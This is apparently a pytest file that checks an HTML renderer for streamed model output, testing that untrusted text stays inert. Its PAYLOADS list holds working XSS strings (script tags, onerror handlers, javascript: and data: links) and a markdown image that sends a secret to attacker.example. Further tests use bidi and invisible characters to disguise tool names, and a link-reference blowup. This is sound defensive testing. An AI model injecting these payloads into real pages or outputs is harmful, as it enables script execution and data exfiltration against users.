"""Untrusted stream text in the static renderings: markdown stays, raw HTML and script never do.

The browser test (tests/browser/test_xss_browser.py) streams the same payloads into every view in real JupyterLab;
these are the quick checks of the renderer itself, one payload at a time.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from helpers.widgets import _static

ALLOWED_TAGS = _static.TAGS
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[rel](/api/contents/x)",
    "![exfil](https://attacker.example/p.png?secret=1)",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "`</code><img src=x onerror=alert(1)>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "~~~\n<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>",
]


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser sees them."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_data(self, data):
        self.text.append(data)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(html)
    return parser.tags


def visible_text(html: str) -> str:
    """What a reader sees (entities decoded)."""
    parser = Elements()
    parser.feed(html)
    return "".join(parser.text)


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"raw <{tag}> reached the output: {html}"
        assert not any(name.startswith("on") or name in {"style", "src", "srcdoc"} for name in attrs), (tag, attrs)
        if tag == "a":
            assert re.match(r"(https?://[^/]|mailto:)", attrs["href"]), attrs


def state(**footer) -> dict:
    return {"status": "done", "error": "", "footer": footer}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_text_renders_as_text(payload):
    html = _static.message_html([{"type": "text", "text": f"Before\n\n{payload}\n\nafter"}], state(), 1)
    assert_inert(html)
    assert "Before" in html and "after" in html  # nothing that arrived is lost


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_other_field_is_escaped(payload):
    blocks = [
        {"type": "thinking", "thinking": payload, "signature": 12},
        {"type": "tool_use", "name": payload, "id": payload, "snapshot": {payload: payload}},
        {"type": "tool_use", "name": "t", "snapshot": {}, "truncated": True, "partial_json": payload},
        {"type": payload},
    ]
    failed = {"status": "error", "error": payload, "footer": {"stop_reason": payload}}
    outputs = [
        _static.message_html(blocks, state(stop_reason=payload, input_tokens=1, output_tokens=2), 1),
        _static.message_html([], failed, 0),
        _static.panes_html([(payload, payload, blocks, failed, 3)]),
        _static.events_html([[0.0, payload, payload, payload, payload]], {payload: 1}, failed),
    ]
    for html in outputs:
        assert_inert(html)
        assert payload in visible_text(html)  # shown, as text


def test_markdown_formatting_and_safe_links_survive():
    text = "# Title\n\n**bold** and *em*, `code`, [docs](https://docs.anthropic.com) and <mailto:a@b.example>\n\n- one\n- two\n\nline one\nline two"
    html = _static.message_html([{"type": "text", "text": text}], state(), len(text))
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html and "<em>em</em>" in html
    assert '<a href="https://docs.anthropic.com" rel="noopener noreferrer nofollow">docs</a>' in html
    assert 'href="mailto:a@b.example"' in html and "<li>one</li>" in html
    assert "line one<br>\nline two" in html  # a haiku keeps its lines


def test_an_unclosed_fence_cannot_swallow_what_follows():
    blocks = [{"type": "text", "text": "code:\n```python\nprint(1)"}, {"type": "text", "text": "**next**"}]
    html = _static.message_html(blocks, state(stop_reason="max_tokens", input_tokens=1, output_tokens=2), 3)
    assert "<strong>next</strong>" in html and "<b>stop_reason</b> <code>max_tokens</code>" in html


def test_the_sanitizer_is_the_last_word():
    """Whatever a builder might let through, safe_html (nh3) removes it."""
    dirty = (
        '<div class="cw-static" onclick="x()"><img src=x onerror=y><a href="javascript:z">l</a><script>s</script></div>'
    )
    assert _static.safe_html(dirty) == '<div class="cw-static"><a rel="noopener noreferrer nofollow">l</a></div>'


def test_bidi_controls_in_names_are_shown_as_escapes():
    """U+202E in a tool name reversed the rest of its line ("gnp.exe" read "exe.png"); answer text is left as it came."""
    block = {"type": "tool_use", "name": "get\u202egnp.exe\u2066", "snapshot": {}}
    html = _static.block_html(block)
    assert "<code>get\\u202egnp.exe\\u2066</code>" in html and "\u202e" not in html and "\u2066" not in html
    assert "\u202e" in _static.block_html({"type": "text", "text": "shalom \u202eworld"})  # the answer, as it came


def test_reference_links_cannot_multiply_the_answer():
    """A reference defined once and used thousands of times copied its URL into every use: 100 KB of answer became
    390 MB of HTML (kernel memory, the browser tab, the saved notebook). The rendering stays proportionate."""
    text = "[a]: https://attacker.example/" + "a" * 6000 + "\n\n" + "[a]" * 3000
    html = _static.message_html([{"type": "text", "text": text}], state(), len(text))
    assert len(html) < 20 * len(text), len(html)
    assert "[a]" in visible_text(html)  # the uses stay as text
    fair = "See [the docs][d], then [the docs again][d].\n\n[d]: https://docs.anthropic.com\n"
    assert _static.markdown_html(fair).count('<a href="https://docs.anthropic.com">') == 2  # ordinary use still links


def test_invisible_characters_in_names_are_shown_as_escapes():
    """A zero-width space or a Unicode tag character (an invisible letter) let a tool name pass for another."""
    html = _static.block_html({"type": "tool_use", "name": "get_weather\u200b\U000e0041\ufeff", "snapshot": {}})
    assert "<code>get_weather\\u200b\\U000e0041\\ufeff</code>" in html, html
